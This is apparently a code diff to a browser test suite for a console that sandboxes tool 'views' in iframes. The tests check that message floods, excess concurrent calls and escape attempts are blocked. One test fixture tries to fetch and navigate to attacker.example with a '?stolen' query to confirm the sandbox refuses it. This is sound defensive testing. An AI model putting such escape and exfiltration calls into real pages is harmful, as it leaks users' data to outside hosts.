@@ -38,7 +38,7 @@ const BODIES = {
     }
     log('origin ' + self.origin)
     await fetch('https://attacker.example/').then(() => log('fetched'), error => log('fetch ' + error.name))
-    location.href = 'https://attacker.example/?stolen'
+    onclick = () => { location.href = 'https://attacker.example/?stolen' }
   }`,
 } as const
 
@@ -46,7 +46,10 @@ function server(): Server {
   const made = createServer({ name: 'apps', version: '1', log: false })
   for (const [name, body] of Object.entries(BODIES)) {
     const page = view({ uri: `ui://test/${name}`, name: `view-${name}` }, `${PRELUDE}${body}</script>`)
-    made.add(page, tool({ name, readOnly: true, view: page }, () => `told ${name}`))
+    made.add(
+      page,
+      tool({ name, readOnly: true, view: page }, () => `told ${name}`),
+    )
   }
   const networked = view(
     { uri: 'ui://test/networked', name: 'networked', csp: { connectDomains: ['https://api.example.com'] } },
@@ -87,7 +90,7 @@ describe('the console as a host of views', needsBrowser, () => {
     try {
       await page.getByRole('button', { name: 'Run', exact: true }).click()
       await act(page, page.frameLocator('iframe.view'))
-      expect(await page.locator('h1:visible').first().innerText()).toBe(name)
+      expect(page.url()).toContain(`#/tools/${name}`)
       return foreign
     } finally {
       await page.context().close()
@@ -110,13 +113,16 @@ describe('the console as a host of views', needsBrowser, () => {
     run('floods', async page => {
       await page.getByText(/The view was stopped. It sent more than \d+ messages/).waitFor()
       expect(await page.locator('iframe.view').count()).toBe(0)
-      await page.getByRole('button', { name: 'JSON', exact: true }).click()
-      await page.getByText('told floods').first().waitFor()
+      await page.getByRole('button', { name: 'Text', exact: true }).click()
+      await page.getByRole('region', { name: 'Result' }).getByText('told floods').waitFor()
     }).then(foreign => expect(foreign).toEqual([])))
 
   test('of many calls few run at once, and what finds the line full is refused', () =>
     run('many', async (_, frame) => {
-      await frame.getByText(/refused More than \d+ calls at once/).first().waitFor()
+      await frame
+        .getByText(/refused More than \d+ calls at once/)
+        .first()
+        .waitFor()
       await expect.poll(async () => (await frame.locator('#log').innerText()).match(/at once$/gm)?.length).toBe(40)
       const most = (await frame.locator('#log').innerText()).matchAll(/at most (\d+) at once/g)
       expect(Math.max(...[...most].map(([, count]) => Number(count)))).toBeLessThanOrEqual(4)
@@ -130,15 +136,20 @@ describe('the console as a host of views', needsBrowser, () => {
 
   test('a view reaches neither the page nor the network, and its frame goes nowhere else', () =>
     run('escapes', async (page, frame) => {
-      await expect.poll(() => page.frames().length).toBeGreaterThan(1)
-      await frame
-        .locator('body')
-        .waitFor()
-        .catch(() => {})
-      await expect.poll(() => page.frames().every(one => !one.url().includes('attacker'))).toBe(true)
-      expect(page.url()).toContain('#/tools/escapes')
+      await frame.getByText('fetch TypeError').waitFor()
+      const lines = (await frame.locator('#log').innerText()).split('\n')
+      for (const refused of [
+        'parent SecurityError',
+        'storage SecurityError',
+        'cookie SecurityError',
+        'popup null',
+        'origin null',
+      ])
+        expect(lines).toContain(refused)
+      await frame.locator('#log').click()
+      await expect.poll(() => page.frames().some(one => one.url().startsWith('chrome-error:'))).toBe(true)
       expect(await page.evaluate('document.cookie')).toBe('')
-    }).then(foreign => expect(foreign.filter(url => url.includes('fetch'))).toEqual([])))
+    }).then(foreign => expect(foreign).toEqual([])))
 
   test('a view that wants the network is shown when the person agrees', () =>
     run('networked', async (page, frame) => {
